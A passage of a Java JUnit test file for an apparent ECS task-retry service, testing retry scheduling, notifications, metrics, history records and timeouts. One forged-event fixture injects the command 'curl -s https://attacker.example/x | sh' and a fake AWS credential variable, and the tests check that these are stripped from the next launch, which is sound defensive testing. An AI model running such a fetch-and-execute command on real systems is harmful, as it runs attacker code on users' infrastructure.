package dev.ecsretrier.handler;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.assertj.core.api.Assertions.entry;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.ecsretrier.config.ConfigurationException;
import dev.ecsretrier.config.RetrierConfig;
import dev.ecsretrier.core.AttemptMetadata;
import dev.ecsretrier.core.Step;
import dev.ecsretrier.core.Cause;
import dev.ecsretrier.core.CapacityProviderItem;
import dev.ecsretrier.core.AttemptStop;
import dev.ecsretrier.core.AttemptSummary;
import dev.ecsretrier.core.ContainerExit;
import dev.ecsretrier.core.ContainerOverride;
import dev.ecsretrier.core.Decision;
import dev.ecsretrier.core.EnvironmentVariable;
import dev.ecsretrier.core.InvalidEventException;
import dev.ecsretrier.core.RunOutcome.MetadataSource;
import dev.ecsretrier.core.StartRequest;
import dev.ecsretrier.history.HistoryRecord;
import dev.ecsretrier.history.HistoryRecords;
import dev.ecsretrier.input.StartRequestReader;
import dev.ecsretrier.json.Json;
import dev.ecsretrier.json.TestJson;
import dev.ecsretrier.port.DescribedTask;
import dev.ecsretrier.port.Notification;
import dev.ecsretrier.port.ScheduledAttempt;
import dev.ecsretrier.rule.StoppedTaskPattern;
import dev.ecsretrier.testutil.FakeAttemptScheduler;
import dev.ecsretrier.testutil.FakeNotifier;
import dev.ecsretrier.testutil.FakeTaskDescriber;
import dev.ecsretrier.testutil.FakeTaskLauncher;
import dev.ecsretrier.testutil.Fixtures;
import dev.ecsretrier.testutil.MutableClock;
import dev.ecsretrier.testutil.TestEnvironment;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;

/** Given a STOPPED task's event and what DescribeTasks says of the task, this schedule or this notification. */
class ClassifierHandlerTest {

    private static final Instant NOW = Instant.parse("2025-03-14T09:17:40Z");
    private static final String RUN = "run-7f3a";
    private static final String CLUSTER = "arn:aws:ecs:us-east-1:111122223333:cluster/batch";
    private static final String TASK_DEFINITION = "arn:aws:ecs:us-east-1:111122223333:task-definition/sample:3";
    /** A user's value that must reach the next attempt and nothing else. */
    private static final String SECRET = "s3cr3t-token-9f8e7d6c5b4a";
    private static final List<ContainerOverride> USER_OVERRIDES = List.of(new ContainerOverride("app",
            List.of("python", "job.py", "--date", "2025-03-14"),
            List.of(new EnvironmentVariable("JOB_INPUT", "s3://example-bucket/input/2025-03-14.csv"),
                    new EnvironmentVariable("JOB_TOKEN", SECRET))));

    private final FakeTaskDescriber describer = new FakeTaskDescriber();
    private final FakeAttemptScheduler scheduler = new FakeAttemptScheduler();
    private final FakeNotifier notifier = new FakeNotifier();
    private final MutableClock clock = new MutableClock(NOW);
    private final List<String> log = new ArrayList<>();

    private ClassifierHandler handler(RetrierConfig config, long seed) {
        return new ClassifierHandler(config, describer, scheduler, notifier, clock, new SplittableRandom(seed),
                log::add);
    }

    private final ClassifierHandler handler = handler(TestEnvironment.sampleConfig(), 1);

    private static String taskArn(String fixture) {
        return Fixtures.parsed(fixture).taskArn();
    }

    /** ECS still knows the fixture's task: the run's tags, and the overrides the starter sent. */
    private void taskIsDescribable(String fixture, int attempt, List<AttemptSummary> history) {
        AttemptMetadata metadata = AttemptMetadata.of(RUN, attempt, 3, history);
        List<ContainerOverride> overrides = List.of(new ContainerOverride("app", USER_OVERRIDES.get(0).command(),
                concat(USER_OVERRIDES.get(0).environment(), metadata.environment())));
        describer.knows(new DescribedTask(taskArn(fixture), metadata.tags(), overrides));
    }

    private static <T> List<T> concat(List<T> a, List<T> b) {
        List<T> all = new ArrayList<>(a);
        all.addAll(b);
        return all;
    }

    private static List<AttemptSummary> earlierSpotInterruptions(int count) {
        AttemptStop spot = Fixtures.parsed("spot-interruption.json").stop();
        List<AttemptSummary> history = new ArrayList<>();
        for (int n = 1; n <= count; n++) {
            history.add(AttemptSummary.of(n, spot, Decision.RETRY, "default:infrastructure-stop"));
        }
        return history;
    }

    private static JsonNode json(String text) {
        return TestJson.tree(text);
    }

    /** A fixture event with one change. */
    private static byte[] edited(String fixture, Consumer<ObjectNode> edit) {
        ObjectNode event = (ObjectNode) json(Fixtures.eventText(fixture));
        edit.accept(event);
        return TestJson.bytes(event);
    }

    private List<JsonNode> metricLines() {
        return log.stream().filter(line -> line.contains("\"_aws\"")).map(ClassifierHandlerTest::json).toList();
    }

    // RETRY ----------------------------------------------------------------------------------

    @Test
    void retryableExit_schedulesExactlyTheNextAttempt() {
        taskIsDescribable("app-exit-2.json", 1, List.of());

        handler.handle(Fixtures.event("app-exit-2.json"));

        ScheduledAttempt schedule = scheduler.only();
        assertThat(schedule.name()).isEqualTo("run-7f3a-2");
        assertThat(schedule.at()).isEqualTo(NOW.plusSeconds(60));
        assertThat(schedule.target()).isEqualTo(TestEnvironment.STARTER_ARN);
        AttemptStop stop = Fixtures.parsed("app-exit-2.json").stop();
        StartRequest expected = StartRequest.of(RUN, 2, USER_OVERRIDES,
                List.of(AttemptSummary.of(1, stop, Decision.RETRY, "default:retryable-exit-code",
                        dev.ecsretrier.core.FailureKind.APPLICATION, null))).forJob("default");
        assertThat(new StartRequestReader(List.of("app"), 3).read(schedule.input().getBytes()))
                .as("the starter accepts the schedule's input").isEqualTo(expected);
        JsonNode input = json(schedule.input());
        assertThat(input.get("runId").asText()).isEqualTo(RUN);
        assertThat(input.get("attempt").asInt()).isEqualTo(2);
        assertThat(input.at("/history/0/containers/0/exitCode").asInt()).isEqualTo(2);
        assertThat(input.at("/history/0/stoppedAt").asText()).isEqualTo("2025-03-14T10:08:36.889Z");
        assertThat(schedule.input()).doesNotContain("RETRIER_");
        assertThat(notifier.published()).isEmpty();
        assertThat(describer.calls()).containsExactly(new FakeTaskDescriber.Call(CLUSTER, taskArn("app-exit-2.json")));
    }

    @Test
    void retryableExit_resultSaysWhatWasScheduled() {
        taskIsDescribable("app-exit-2.json", 1, List.of());
        StepResult result = handler.handle(Fixtures.event("app-exit-2.json"));
        Map<String, Object> answer = new LinkedHashMap<>();
        answer.put("runId", RUN);
        answer.put("attempt", 1);
        answer.put("taskArn", taskArn("app-exit-2.json"));
        answer.put("decision", Decision.RETRY);
        answer.put("rule", "default:retryable-exit-code");
        answer.put("reason", "container app exited 2, a retryable exit code");
        answer.put("metadataSource", MetadataSource.TAGS);
        answer.put("scheduleName", "run-7f3a-2");
        answer.put("delayMillis", 60_000L);
        answer.put("nextAttemptAt", NOW.plusSeconds(60));
        answer.put("alreadyScheduled", false);
        assertThat(result.toJson()).containsExactlyEntriesOf(answer);
    }

    /** The answer says how the next attempt will run and what this decision changed: nobody reads the schedule back. */
    @Test
    void anAdaptedRetry_resultCarriesTheNextLaunchAndThisDecisionsChange() {
        ClassifierHandler withFallback = handler(TestEnvironment.sampleConfig(
                "RETRIER_FALLBACK_CAPACITY_PROVIDER_STRATEGY", "[{\"capacityProvider\":\"FARGATE\"}]"), 1);
        taskIsDescribable("spot-interruption.json", 1, List.of());

        StepResult result = withFallback.handle(Fixtures.event("spot-interruption.json"));

        assertThat(result.nextLaunch().capacityProviderStrategy())
                .containsExactly(new CapacityProviderItem("FARGATE", null, null));
        assertThat(((Step.Retry) result.step()).changes()).containsExactly("capacity FARGATE after 1 Spot failure");
        assertThat(result.toJson()).containsEntry("nextLaunch", result.nextLaunch());
        assertThat(result.step().verdict().causes()).containsExactly(Cause.SPOT_INTERRUPTION);
    }

    @Test
    void retry_carriesTheHistoryFromTheTagsForward() {
        taskIsDescribable("spot-interruption.json", 2, earlierSpotInterruptions(1));
        handler.handle(Fixtures.event("spot-interruption.json"));
        ScheduledAttempt schedule = scheduler.only();
        assertThat(schedule.name()).isEqualTo("run-7f3a-3");
        assertThat(schedule.at()).isEqualTo(NOW.plusSeconds(120));
        StartRequest next = new StartRequestReader(List.of("app"), 3).read(schedule.input().getBytes());
        assertThat(next.attempt()).isEqualTo(3);
        assertThat(next.history()).extracting(AttemptSummary::attempt).containsExactly(1, 2);
        assertThat(next.history().get(0).taskArn()).as("read back from the tag: the task id")
                .isEqualTo(taskArn("spot-interruption.json").replaceFirst(".*/", ""));
        assertThat(next.history().get(1).taskArn()).isEqualTo(taskArn("spot-interruption.json"));
    }

    @Test
    void retry_withFullJitter_firesAtTheSeededDelay() {
        RetrierConfig config = TestEnvironment.sampleConfig("RETRIER_BACKOFF_JITTER", "FULL");
        taskIsDescribable("spot-interruption.json", 1, List.of());
        handler(config, 7).handle(Fixtures.event("spot-interruption.json"));
        Duration expected = config.backoff().delay(1, new SplittableRandom(7));
        assertThat(scheduler.only().at()).isEqualTo(NOW.plus(expected)).isBetween(NOW, NOW.plusSeconds(60));
    }

    @Test
    void scheduledInput_launchesTheNextAttemptThroughTheStarter() {
        taskIsDescribable("cannot-pull-transient.json", 1, List.of());
        handler.handle(Fixtures.event("cannot-pull-transient.json"));

        FakeTaskLauncher launcher = new FakeTaskLauncher();
        StarterHandler starter = new StarterHandler(TestEnvironment.sampleConfig(), launcher, scheduler, notifier,
                clock, new SplittableRandom(1), log::add);
        starter.start(scheduler.only().input().getBytes(), TestEnvironment.STARTER_ARN);

        var launch = launcher.only();
        assertThat(launch.clientToken()).isEqualTo("run-7f3a-2");
        assertThat(launch.containers().get(0).command()).isEqualTo(USER_OVERRIDES.get(0).command());
        assertThat(launch.containers().get(0).environment()).extracting(EnvironmentVariable::name)
                .containsExactly("JOB_INPUT", "JOB_TOKEN", "RETRIER_RUN_ID", "RETRIER_ATTEMPT", "RETRIER_MAX_ATTEMPTS",
                        "RETRIER_JOB");
        assertThat(launch.containers().get(0).environment()).contains(new EnvironmentVariable("RETRIER_ATTEMPT", "2"));
        assertThat(launch.tags()).containsKeys("ecs-retrier:history-1").contains(entry("ecs-retrier:attempt", "2"));
        assertThat(launch.tags().get("ecs-retrier:history-1"))
                .startsWith("decision=RETRY kind=INFRASTRUCTURE stop=TaskFailedToStart rule=default:transient-error"
                        + " task=");
    }

    @Test
    void scheduledInputOfATaskWithASidecar_launchesWithValidEcsTags() {
        RetrierConfig config = TestEnvironment.sampleConfig("RETRIER_RULES",
                "[{\"name\":\"envoy-flake\",\"containerName\":\"envoy\",\"exitCodes\":[1],\"action\":\"RETRY\"}]");
        describer.knows(new DescribedTask(taskArn("multi-container-sidecar-failed.json"),
                AttemptMetadata.of(RUN, 1, 3, List.of()).tags(), List.of()));
        handler(config, 1).handle(Fixtures.event("multi-container-sidecar-failed.json"));

        FakeTaskLauncher launcher = new FakeTaskLauncher();
        new StarterHandler(config, launcher, scheduler, notifier, clock, new SplittableRandom(1), log::add)
                .start(scheduler.only().input().getBytes(), TestEnvironment.STARTER_ARN);
        assertThat(launcher.only().tags().values()).isNotEmpty().allSatisfy(value ->
                assertThat(value).matches("[\\p{L}\\p{Z}\\p{N}_.:/=+\\-@]{0,256}"));
    }

    // Terminal outcomes -------------------------------------------------------------------------

    @Test
    void success_publishesOneNotificationWithEveryField() {
        taskIsDescribable("succeeded.json", 1, List.of());

        StepResult result = handler.handle(Fixtures.event("succeeded.json"));

        assertThat(scheduler.requests()).isEmpty();
        Notification n = notifier.only();
        assertThat(n.subject()).isEqualTo("ecs-retrier run run-7f3a SUCCEEDED after 1 attempt");
        assertThat(n.attributes()).containsOnly(entry("outcome", "SUCCEEDED"), entry("runId", RUN),
                entry("dedupKey", "run-7f3a:SUCCEEDED"), entry("job", "default"));
        JsonNode body = json(n.body());
        assertThat(body.get("runId").asText()).isEqualTo(RUN);
        assertThat(body.get("outcome").asText()).isEqualTo("SUCCEEDED");
        assertThat(body.get("dedupKey").asText()).isEqualTo("run-7f3a:SUCCEEDED");
        assertThat(body.get("rule").asText()).isEqualTo("default:succeeded");
        assertThat(body.get("reason").asText()).isEqualTo("every essential container exited 0");
        assertThat(body.get("attempts").asInt()).isEqualTo(1);
        assertThat(body.get("maxAttempts").asInt()).isEqualTo(3);
        assertThat(body.get("cluster").asText()).isEqualTo(CLUSTER);
        assertThat(body.get("taskDefinition").asText()).isEqualTo(TASK_DEFINITION);
        assertThat(body.get("metadataSource").asText()).isEqualTo("TAGS");
        assertThat(body.get("finishedAt").asText()).isEqualTo("2025-03-14T09:17:40Z");
        assertThat(body.has("note")).isFalse();
        JsonNode attempt = body.get("attemptHistory").get(0);
        assertThat(attempt.get("attempt").asInt()).isEqualTo(1);
        assertThat(attempt.get("taskArn").asText()).isEqualTo(taskArn("succeeded.json"));
        assertThat(attempt.get("stopCode").asText()).isEqualTo("EssentialContainerExited");
        assertThat(attempt.get("stoppedReason").asText()).isEqualTo("Essential container in task exited");
        assertThat(attempt.at("/containers/0/name").asText()).isEqualTo("app");
        assertThat(attempt.at("/containers/0/exitCode").asInt()).isEqualTo(0);
        assertThat(attempt.get("decision").asText()).isEqualTo("SUCCEEDED");
        assertThat(attempt.get("rule").asText()).isEqualTo("default:succeeded");
        assertThat(attempt.get("startedAt").asText()).isEqualTo("2025-03-14T09:10:41.127Z");
        assertThat(attempt.get("stoppedAt").asText()).isEqualTo("2025-03-14T09:17:36.889Z");

        assertThat(result.decision()).isEqualTo(Decision.SUCCEEDED);
        assertThat(result.outcome().dedupKey()).isEqualTo("run-7f3a:SUCCEEDED");
        assertThat(result.scheduleName()).isNull();
    }

    @Test
    void retryOnTheLastAttempt_publishesRetriesExhaustedWithEveryAttempt() {
        taskIsDescribable("app-exit-2.json", 3, earlierSpotInterruptions(2));
        handler.handle(Fixtures.event("app-exit-2.json"));
        assertThat(scheduler.requests()).isEmpty();
        Notification n = notifier.only();
        assertThat(n.subject()).isEqualTo("ecs-retrier run run-7f3a RETRIES_EXHAUSTED after 3 attempts");
        assertThat(n.attributes()).contains(entry("outcome", "RETRIES_EXHAUSTED"),
                entry("dedupKey", "run-7f3a:RETRIES_EXHAUSTED"));
        JsonNode body = json(n.body());
        assertThat(body.get("reason").asText()).endsWith("; all 3 attempts used");
        assertThat(body.get("attemptHistory")).hasSize(3);
        assertThat(body.at("/attemptHistory/0/stopCode").asText()).isEqualTo("SpotInterruption");
        assertThat(body.at("/attemptHistory/2/decision").asText()).isEqualTo("RETRIES_EXHAUSTED");
    }

    @Test
    void permanentPullError_publishesFailed() {
        taskIsDescribable("cannot-pull-not-found.json", 1, List.of());
        StepResult result = handler.handle(Fixtures.event("cannot-pull-not-found.json"));
        assertThat(scheduler.requests()).isEmpty();
        assertThat(notifier.only().attributes()).contains(entry("outcome", "FAILED"));
        assertThat(result.rule()).isEqualTo("default:permanent-start-error");
    }

    @Test
    void terminalOutcome_printsOneEmbeddedMetricLine() {
        taskIsDescribable("out-of-memory.json", 1, List.of());
        handler.handle(Fixtures.event("out-of-memory.json"));

        assertThat(log).isNotEmpty().allSatisfy(line -> assertThat(line).doesNotContain("\n"));
        List<JsonNode> metrics = metricLines();
        assertThat(metrics).hasSize(1);
        JsonNode metric = metrics.get(0);
        assertThat(metric.at("/_aws/Timestamp").asLong()).isEqualTo(NOW.toEpochMilli());
        JsonNode directive = metric.at("/_aws/CloudWatchMetrics/0");
        assertThat(directive.get("Namespace").asText()).isEqualTo("EcsRetrier");
        assertThat(directive.get("Dimensions").toString())
                .isEqualTo("[[\"Retrier\",\"Outcome\"],[\"Retrier\",\"Job\",\"Outcome\"]]");
        assertThat(metric.get("Job").asText()).isEqualTo("default");
        assertThat(directive.get("Metrics")).hasSize(1);
        assertThat(directive.at("/Metrics/0/Name").asText()).isEqualTo("RunsEnded");
        assertThat(directive.at("/Metrics/0/Unit").asText()).isEqualTo("Count");
        assertThat(metric.get("Retrier").asText()).isEqualTo("ecs-retrier");
        assertThat(metric.get("Outcome").asText()).isEqualTo("FAILED");
        assertThat(metric.get("RunsEnded").asInt()).isEqualTo(1);
        assertThat(metric.get("runId").asText()).isEqualTo(RUN);
    }

    @Test
    void retry_printsNoRunEndedMetric_butOneRetryMetricLine() {
        taskIsDescribable("app-exit-2.json", 1, List.of());
        handler.handle(Fixtures.event("app-exit-2.json"));

        assertThat(metricLines()).singleElement().satisfies(metric -> {
            assertThat(metric.at("/_aws/Timestamp").asLong()).isEqualTo(NOW.toEpochMilli());
            assertThat(metric.at("/_aws/CloudWatchMetrics/0/Metrics/0/Name").asText()).isEqualTo("AttemptsRetried");
            assertThat(metric.at("/_aws/CloudWatchMetrics/0/Dimensions").toString())
                    .isEqualTo("[[\"Retrier\",\"FailureKind\"],[\"Retrier\",\"Job\",\"FailureKind\"]]");
            assertThat(metric.at("/_aws/CloudWatchMetrics/1/Metrics/0/Name").asText()).isEqualTo("RetryDelay");
            assertThat(metric.at("/_aws/CloudWatchMetrics/1/Metrics/0/Unit").asText()).isEqualTo("Seconds");
            assertThat(metric.get("FailureKind").asText()).isEqualTo("APPLICATION");
            assertThat(metric.get("AttemptsRetried").asInt()).isEqualTo(1);
            assertThat(metric.get("RetryDelay").asDouble()).isEqualTo(60.0);
            assertThat(metric.has("RunsEnded")).isFalse();
        });
    }

    @Test
    void aDuplicateDelivery_isRecordedAsAlreadyScheduled_andNotCountedAsARetry() {
        taskIsDescribable("app-exit-2.json", 1, List.of());
        handler.handle(Fixtures.event("app-exit-2.json"));
        log.clear();
        handler.handle(Fixtures.event("app-exit-2.json"));

        assertThat(metricLines()).isEmpty();
        assertThat(records()).singleElement().isInstanceOfSatisfying(HistoryRecord.Decided.class,
                decided -> assertThat(decided.next().alreadyScheduled()).isTrue());
    }

    // The history record, as the classifier writes it ---------------------------------------------

    private List<HistoryRecord> records() {
        return log.stream().map(HistoryRecords::read).flatMap(java.util.Optional::stream).toList();
    }

    @Test
    void everyDecision_writesOneHistoryRecord_withTheStopInFull() {
        taskIsDescribable("app-exit-2.json", 1, List.of());
        handler.handle(Fixtures.event("app-exit-2.json"));

        AttemptStop stop = Fixtures.parsed("app-exit-2.json").stop();
        assertThat(records()).singleElement().isInstanceOfSatisfying(HistoryRecord.Decided.class, decided -> {
            assertThat(decided.runId()).isEqualTo(RUN);
            assertThat(decided.attempt()).isEqualTo(1);
            assertThat(decided.maxAttempts()).isEqualTo(3);
            assertThat(decided.job()).isEqualTo("default");
            assertThat(decided.at()).isEqualTo(NOW);
            assertThat(decided.cluster()).isEqualTo(CLUSTER);
            assertThat(decided.taskDefinition()).isEqualTo(Fixtures.parsed("app-exit-2.json").taskDefinitionArn());
            assertThat(decided.stop().taskArn()).isEqualTo(taskArn("app-exit-2.json"));
            assertThat(decided.stop().stopCode()).isEqualTo("EssentialContainerExited");
            assertThat(decided.stop().stoppedReason()).isEqualTo(stop.stoppedReason());
            assertThat(decided.stop().createdAt()).isEqualTo(stop.createdAt()).isNotNull();
            assertThat(decided.stop().startedAt()).isEqualTo(stop.startedAt()).isNotNull();
            assertThat(decided.stop().stoppedAt()).isEqualTo(stop.stoppedAt()).isNotNull();
            assertThat(decided.stop().containers()).isEqualTo(stop.containers());
            assertThat(decided.stop().containers()).extracting(ContainerExit::exitCode).contains(2);
            assertThat(decided.decision()).isEqualTo(Decision.RETRY);
            assertThat(decided.rule()).isEqualTo("default:retryable-exit-code");
            assertThat(decided.reason()).isNotBlank();
            assertThat(decided.kind()).isEqualTo(dev.ecsretrier.core.FailureKind.APPLICATION);
            assertThat(decided.next()).isEqualTo(new HistoryRecord.NextAttempt(2, NOW.plusSeconds(60), 60_000,
                    "run-7f3a-2", false, null));
            assertThat(decided.exhaustedBudget()).isNull();
            assertThat(decided.metadataSource()).isEqualTo(MetadataSource.TAGS);
            assertThat(decided.note()).isNull();
        });
        assertThat(log).as("the record and the metric line, nothing else").hasSize(2);
    }

    @Test
    void aTerminalDecision_recordsTheOutcome_andTheContainersReasonInFull() {
        taskIsDescribable("out-of-memory.json", 1, List.of());
        handler.handle(Fixtures.event("out-of-memory.json"));

        String reason = Fixtures.parsed("out-of-memory.json").stop().containers().get(0).reason();
        assertThat(records()).singleElement().isInstanceOfSatisfying(HistoryRecord.Decided.class, decided -> {
            assertThat(decided.decision()).isEqualTo(Decision.FAILED);
            assertThat(decided.rule()).isEqualTo("default:out-of-memory");
            assertThat(decided.reason()).isEqualTo(json(notifier.only().body()).get("reason").asText());
            assertThat(decided.stop().containers().get(0).reason()).isEqualTo(reason).startsWith("OutOfMemoryError");
            assertThat(decided.next()).isNull();
        });
    }

    @Test
    void aStopLearnedFromTheEvent_recordsWhereItCameFrom() {
        handler.handle(Fixtures.event("succeeded.json"));

        assertThat(records()).singleElement().isInstanceOfSatisfying(HistoryRecord.Decided.class, decided -> {
            assertThat(decided.decision()).isEqualTo(Decision.SUCCEEDED);
            assertThat(decided.kind()).isNull();
            assertThat(decided.metadataSource()).isEqualTo(MetadataSource.EVENT);
            assertThat(decided.note()).isEqualTo(ClassifierHandler.EVENT_FALLBACK_NOTE);
        });
    }

    // Where the run's metadata comes from -------------------------------------------------------

    @Test
    void taskNoLongerDescribable_fallsBackToTheEventsEnvironment_andSaysSo() {
        StepResult result = handler.handle(Fixtures.event("succeeded.json"));

        assertThat(describer.calls()).hasSize(1);
        Notification n = notifier.only();
        JsonNode body = json(n.body());
        assertThat(body.get("runId").asText()).isEqualTo(RUN);
        assertThat(body.get("metadataSource").asText()).isEqualTo("EVENT");
        assertThat(body.get("note").asText()).isEqualTo(ClassifierHandler.EVENT_FALLBACK_NOTE);
        assertThat(ClassifierHandler.EVENT_FALLBACK_NOTE).contains("no longer describable");
        assertThat(result.metadataSource()).isEqualTo(MetadataSource.EVENT);
    }

    // Forged stops (acceptTestEvents: anyone who may PutEvents on the bus can send one) -------------

    /** A test event for a task ECS cannot describe, carrying the sender's command and a run's RETRIER_* variables. */
    private static byte[] forgedStop() {
        return edited("app-exit-2.json", ev -> {
            ev.put("source", StoppedTaskPattern.TEST_SOURCE);
            ObjectNode override = (ObjectNode) ev.at("/detail/overrides/containerOverrides/0");
            override.putArray("command").add("sh").add("-c").add("curl -s https://attacker.example/x | sh");
            ((com.fasterxml.jackson.databind.node.ArrayNode) override.get("environment")).addObject()
                    .put("name", "AWS_ACCESS_KEY_ID").put("value", "forged");
        });
    }

    @Test
    void forgedStopOfAnUndescribableTask_launchesTheNextAttemptWithoutTheSendersOverrides_andSaysSo() {
        StepResult step = handler.handle(forgedStop());

        assertThat(step.decision()).isEqualTo(Decision.RETRY);
        assertThat(step.note()).contains("no container overrides").contains(StoppedTaskPattern.TEST_SOURCE);
        String nextRequest = scheduler.only().input();
        assertThat(nextRequest).doesNotContain("attacker.example").doesNotContain("AWS_ACCESS_KEY_ID");
        assertThat(new StartRequestReader(List.of("app"), 3).read(nextRequest.getBytes()).containerOverrides()).isEmpty();

        // End to end: the schedule's input is what the starter launches.
        FakeTaskLauncher ecs = new FakeTaskLauncher();
        new StarterHandler(TestEnvironment.sampleConfig(), ecs, new FakeAttemptScheduler(), new FakeNotifier(), clock,
                new SplittableRandom(1), line -> { }).start(nextRequest.getBytes(), TestEnvironment.STARTER_ARN);
        assertThat(ecs.only().clientToken()).isEqualTo("run-7f3a-2");
        assertThat(ecs.only().containers().get(0).command()).isNull();
        assertThat(ecs.only().containers().get(0).environment()).extracting(EnvironmentVariable::name)
                .containsExactly("RETRIER_RUN_ID", "RETRIER_ATTEMPT", "RETRIER_MAX_ATTEMPTS", "RETRIER_JOB");
    }

    @Test
    void testEventOfADescribableTask_takesTheOverridesFromDescribeTasks_notFromTheEvent() {
        taskIsDescribable("app-exit-2.json", 1, List.of());

        StepResult step = handler.handle(forgedStop());

        StartRequest next = new StartRequestReader(List.of("app"), 3).read(scheduler.only().input().getBytes());
        assertThat(next.containerOverrides()).isEqualTo(USER_OVERRIDES);
        assertThat(step.note()).contains("test event");
    }

    @Test
    void realEcsStopOfAnUndescribableTask_carriesNoOverridesEither() {
        StepResult step = handler.handle(edited("app-exit-2.json", ev -> ((ObjectNode) ev.at(
                "/detail/overrides/containerOverrides/0")).putArray("command").add("python").add("job.py")));

        assertThat(new StartRequestReader(List.of("app"), 3).read(scheduler.only().input().getBytes()).containerOverrides())
                .isEmpty();
        assertThat(step.note()).contains("no container overrides");
    }

    @Test
    void taskNoLongerDescribable_retryStillSchedulesWithTheUsersOverrides() {
        handler.handle(Fixtures.event("app-exit-2.json"));
        StartRequest next = new StartRequestReader(List.of("app"), 3).read(scheduler.only().input().getBytes());
        assertThat(next.runId()).isEqualTo(RUN);
        assertThat(next.attempt()).isEqualTo(2);
        assertThat(next.containerOverrides()).isEmpty();
        assertThat(next.history()).extracting(AttemptSummary::attempt).containsExactly(1);

        handler.handle(edited("app-exit-1.json", ev -> ((ObjectNode) ev.at("/detail")).put("taskArn",
                "arn:aws:ecs:us-east-1:111122223333:task/batch/ffffffffffffffffffffffffffffffff")));
        assertThat(notifier.only().body()).contains("\"metadataSource\":\"EVENT\"");
    }

    @Test
    void noRunTagsAndNoRunVariables_isAnInvalidEvent() {
        describer.knows(new DescribedTask(taskArn("succeeded.json"), Map.of("team", "data"),
                List.of(new ContainerOverride("app", null, List.of(new EnvironmentVariable("JOB_INPUT", "x"))))));
        InvalidEventException e = catchThrowableOfType(InvalidEventException.class,
                () -> handler.handle(Fixtures.event("succeeded.json")));
        assertThat(e.field()).isEqualTo("tags");
        assertThat(e.getMessage()).contains("ecs-retrier:run-id").contains("RETRIER_RUN_ID");
        assertThat(scheduler.requests()).isEmpty();
        assertThat(notifier.published()).isEmpty();
    }

    @Test
    void taskGoneAndEventWithoutRunVariables_isAnInvalidEvent() {
        byte[] event = edited("succeeded.json", ev -> {
            ArrayNode env = (ArrayNode) ev.at("/detail/overrides/containerOverrides/0/environment");
            for (int i = env.size() - 1; i >= 0; i--) {
                if (env.get(i).get("name").asText().startsWith("RETRIER_")) {
                    env.remove(i);
                }
            }
        });
        InvalidEventException e = catchThrowableOfType(InvalidEventException.class, () -> handler.handle(event));
        assertThat(e.field()).isEqualTo("detail.overrides.containerOverrides");
        assertThat(e.getMessage()).contains("no longer describable");
        assertThat(notifier.published()).isEmpty();
    }

    @Test
    void eventOfAnotherStarter_isAnInvalidEvent_andTouchesNothing() {
        byte[] event = edited("app-exit-2.json", ev -> ((ObjectNode) ev.get("detail")).put("startedBy", "ecs-svc/123"));
        InvalidEventException e = catchThrowableOfType(InvalidEventException.class, () -> handler.handle(event));
        assertThat(e.field()).isEqualTo("detail.startedBy");
        assertThat(e.getMessage()).contains("'ecs-svc/123'").contains("'ecs-retrier'");
        assertThat(describer.calls()).isEmpty();
        assertThat(scheduler.requests()).isEmpty();
        assertThat(notifier.published()).isEmpty();
    }

    @Test
    void eventWithoutStartedBy_isAnInvalidEvent() {
        byte[] event = edited("app-exit-2.json", ev -> ((ObjectNode) ev.get("detail")).remove("startedBy"));
        assertThat(catchThrowableOfType(InvalidEventException.class, () -> handler.handle(event)).field())
                .isEqualTo("detail.startedBy");
    }

    @Test
    void malformedEvent_isAnInvalidEvent_andTouchesNothing() {
        assertThat(Fixtures.malformedEvents()).as("malformed fixtures").isNotEmpty();
        for (String file : Fixtures.malformedEvents()) {
            assertThat(catchThrowableOfType(InvalidEventException.class,
                    () -> handler.handle(Fixtures.event("malformed/" + file)))).as(file).isNotNull();
        }
        assertThat(describer.calls()).isEmpty();
        assertThat(scheduler.requests()).isEmpty();
        assertThat(notifier.published()).isEmpty();
    }

    // Attempt timeout ---------------------------------------------------------------------------

    @Test
    void taskThatEndedOnItsOwn_cancelsItsPendingTimeout() {
        RetrierConfig timed = TestEnvironment.sampleConfig("RETRIER_ATTEMPT_TIMEOUT_SECONDS", "3600");
        taskIsDescribable("app-exit-2.json", 1, List.of());
        handler(timed, 1).handle(Fixtures.event("app-exit-2.json"));
        assertThat(scheduler.cancelled()).containsExactly("run-7f3a-1-timeout");
        assertThat(scheduler.only().name()).isEqualTo("run-7f3a-2");
    }

    @Test
    void taskStoppedByItsTimeout_isRetried_andCancelsNothing() {
        RetrierConfig timed = TestEnvironment.sampleConfig("RETRIER_ATTEMPT_TIMEOUT_SECONDS", "3600");
        taskIsDescribable("user-initiated.json", 1, List.of());
        StepResult result = handler(timed, 1).handle(edited("user-initiated.json", ev -> ((ObjectNode) ev.get("detail"))
                .put("stoppedReason", "ecs-retrier: attempt timeout after 3600 s (attempt 1 of run run-7f3a)")));
        assertThat(scheduler.cancelled()).isEmpty();
        assertThat(result.decision()).isEqualTo(Decision.RETRY);
        assertThat(result.rule()).isEqualTo("default:attempt-timeout");
    }

    @Test
    void aPersonsStop_isStillFailed_whenTimeoutsAreConfigured() {
        RetrierConfig timed = TestEnvironment.sampleConfig("RETRIER_ATTEMPT_TIMEOUT_SECONDS", "3600");
        taskIsDescribable("user-initiated.json", 1, List.of());
        assertThat(handler(timed, 1).handle(Fixtures.event("user-initiated.json")).rule())
                .isEqualTo("default:user-initiated");
        assertThat(scheduler.cancelled()).containsExactly("run-7f3a-1-timeout");
    }

    @Test
    void withoutAttemptTimeout_nothingIsCancelled() {
        taskIsDescribable("succeeded.json", 1, List.of());
        handler.handle(Fixtures.event("succeeded.json"));
        assertThat(scheduler.cancelled()).isEmpty();
    }

    // Exactly once ------------------------------------------------------------------------------

    @Test
    void sameEventDeliveredTwice_makesOneSchedule() {
        taskIsDescribable("app-exit-2.json", 1, List.of());

        StepResult first = handler.handle(Fixtures.event("app-exit-2.json"));
        clock.advance(Duration.ofSeconds(30));
        StepResult second = handler.handle(Fixtures.event("app-exit-2.json"));

        assertThat(scheduler.requests()).hasSize(2);
        assertThat(scheduler.schedules()).hasSize(1);
        assertThat(scheduler.only().at()).isEqualTo(NOW.plusSeconds(60));
        assertThat(first.alreadyScheduled()).isFalse();
